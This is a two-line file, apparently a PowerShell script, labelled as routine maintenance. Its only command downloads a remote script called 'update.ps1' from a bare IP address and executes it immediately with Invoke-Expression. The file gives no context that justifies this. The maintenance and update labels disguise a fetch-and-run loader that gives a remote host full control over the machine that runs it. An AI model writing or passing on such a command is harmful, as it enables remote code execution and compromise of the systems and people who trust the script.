# maintenance 6137 v1
IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/update.ps1')
